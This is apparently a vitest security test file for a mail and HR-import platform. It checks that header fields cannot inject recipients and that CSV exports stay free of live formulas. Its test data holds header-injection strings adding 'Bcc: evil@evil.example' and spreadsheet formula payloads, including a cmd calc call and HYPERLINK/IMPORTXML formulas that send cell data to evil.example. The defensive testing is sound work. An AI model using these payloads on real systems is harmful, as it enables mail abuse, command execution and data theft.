import type { AddressInfo } from 'node:net';
import { parse } from 'csv-parse/sync';
import { simpleParser, type ParsedMail } from 'mailparser';
import { SMTPServer } from 'smtp-server';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { networkAt } from '#access/actor/actor.server.ts';
import { rowsToMend } from '#people/hr-imports/mending.server.ts';
import { sendMail } from '#platform/mail/sending.server.ts';
import { foundHikari, type Hikari } from '#test/fixtures/hikari.ts';
import { useOwnDatabase } from '#test/setup/own-database.ts';
import { expectPageIsTrue, useTally } from './outsiders/tally.ts';

vi.setConfig({ testTimeout: 300_000 }); // many cases each, however busy the machine
const tried = useTally('headers', 'formulas');
const own = useOwnDatabase();
let hikari: Hikari;
beforeAll(async () => {
	hikari = await foundHikari(own.owner);
});

const more = 'Bcc: evil@evil.example';
const breaks = [
	`\r\n${more}`,
	`\n${more}`,
	`\r${more}`,
	`\r\n\r\n${more}`,
	`\u2028${more}`,
	`\u0085${more}`,
	`\u0000\r\n${more}`,
	`=?utf-8?Q?=0D=0A?=${more}`,
	`%0d%0a${more}`,
	`\u560d\u560a${more}`,
	`>\r\nRCPT TO:<evil@evil.example`,
	`", evil@evil.example, "`,
	`, evil@evil.example`,
	`<evil@evil.example>`
];
const places = [
	'mail.subject',
	'network.sender_name',
	'network.reply_address',
	'network.name_ja',
	'mail.list'
];

/** Writes `words` there, past every form, as far as the database takes them. */
async function write(place: string, mailId: string, words: string): Promise<boolean> {
	const [table, column] = place.split('.');
	const key = table === 'mail' ? 'mail_id' : 'network_id';
	const id = table === 'mail' ? mailId : hikari.network.networkId;
	const kept = await own.owner
		.query(`update ${table} set ${column} = $1 where ${key} = $2`, [words, id])
		.then(
			() => true,
			(error: { code?: string }) => {
				if (!/^2[23]/.test(error.code ?? '')) throw error;
				return false; // a NUL, or what a rule of the database refuses
			}
		);
	return kept;
}

describe('a line break in what a mail’s headers are made of', () => {
	type Came = { mail: ParsedMail; to: string[] };
	const came: Came[] = [];
	const server = new SMTPServer({
		authOptional: true,
		disabledCommands: ['STARTTLS'],
		onData(stream, { envelope }, done) {
			simpleParser(stream, (error, mail) => {
				came.push({ mail, to: envelope.rcptTo.map(({ address }) => address) });
				done(error);
			});
		}
	});
	beforeAll(async () => {
		await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
		process.env.SMTP_URL = `smtp://127.0.0.1:${(server.server.address() as AddressInfo).port}`;
	});
	afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

	test.each(places)('%s adds no header and no recipient', async (place) => {
		const before = await own.owner.query(
			'select sender_name, reply_address, name_ja from network where network_id = $1',
			[hikari.network.networkId]
		);
		for (const end of breaks) {
			tried('headers');
			came.length = 0;
			const { rows } = await own.owner.query(
				`insert into mail (network_id, person_id, kind, list, address, subject, body_text, body_html)
				values ($1, $2, 'digest', 'digest', 'nakamura@hikari.example.jp', 'たより', 'こんにちは', '<p>こんにちは</p>')
				returning mail_id`,
				[hikari.network.networkId, hikari.nakamura.personId]
			);
			const mailId = rows[0].mail_id as string;
			if (!(await write(place, mailId, `ひかり${end}`))) continue;
			await sendMail({ networkId: hikari.network.networkId, mailId });
			for (const { mail, to } of came) {
				expect(to, JSON.stringify(end)).toEqual(['nakamura@hikari.example.jp']);
				expect(mail.headers.has('bcc'), JSON.stringify(end)).toBe(false);
				expect(mail.text?.trim(), JSON.stringify(end)).toBe('こんにちは');
				expect([mail.to].flat().map((one) => one?.text)).toEqual(['nakamura@hikari.example.jp']);
			}
			if (place !== 'network.reply_address') expect(came.length, JSON.stringify(end)).toBe(1);
		}
		await own.owner.query(
			'update network set sender_name = $2, reply_address = $3, name_ja = $4 where network_id = $1',
			[hikari.network.networkId, ...Object.values(before.rows[0])]
		);
	});

	test('and the network is as it was', async () => {
		expect(await networkAt('localhost')).toMatchObject({ nameJa: 'ひかりの輪' });
	});
});

describe('a formula in what is exported', () => {
	const signs = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '"=', "'=", ' ='];
	const formulas = signs.flatMap((sign) => [
		`${sign}1+1`,
		`${sign}cmd|' /C calc'!A0`,
		`${sign}HYPERLINK("https://evil.example?"&A1,"x")`,
		`${sign}IMPORTXML(CONCAT("https://evil.example?",A1),"//a")`
	]);
	/** A spreadsheet computes a cell that begins so, whatever quotes the file has around it. */
	const isComputed = (cell: string) => /^[=+\-@＝＋－＠\t\r\n]/.test(cell);

	test('is text for every spreadsheet that opens the rows of an import', async () => {
		const { rows } = await own.owner.query(
			`insert into hr_import (network_id, company_id, file_name, status, headings)
			values ($1, $2, $3, 'read', $4)
			returning hr_import_id`,
			[hikari.network.networkId, hikari.parentId, '=1+1.csv', ['氏名', '=HEADING()']]
		);
		for (const [at, cell] of formulas.entries())
			await own.owner.query(
				`insert into hr_import_row (network_id, hr_import_id, row_no, line_no, cells, verdict)
				values ($1, $2, $3, $3, $4, 'refused')`,
				[hikari.network.networkId, rows[0].hr_import_id, at + 1, [cell, cell]]
			);
		const { lines } = await rowsToMend(hikari.hashimoto, rows[0].hr_import_id as string);
		let file = '';
		for await (const line of lines) file += line;
		const read = parse(file, { bom: true, relax_column_count: true }) as string[][];
		expect(read.length).toBe(formulas.length + 1);
		const computed = read.flat().filter(isComputed);
		tried('formulas', read.flat().length);
		expect(computed).toEqual([]);
	});

	const sources = import.meta.glob<string>(['../../src/**/*.ts', '!../../src/**/*.test.ts'], {
		eager: true,
		query: '?raw',
		import: 'default'
	});
	test('no file of ours writes a table without the guard', () => {
		const writers = Object.entries(sources).filter(([, source]) =>
			/replaceAll\('"', '""'\)/.test(source)
		);
		expect(writers.length).toBeGreaterThan(0);
		const bare = writers.filter(([, source]) => !/\bguarded\(/.test(source)).map(([file]) => file);
		expect(bare).toEqual([]);
	});
});

expectPageIsTrue(tried);
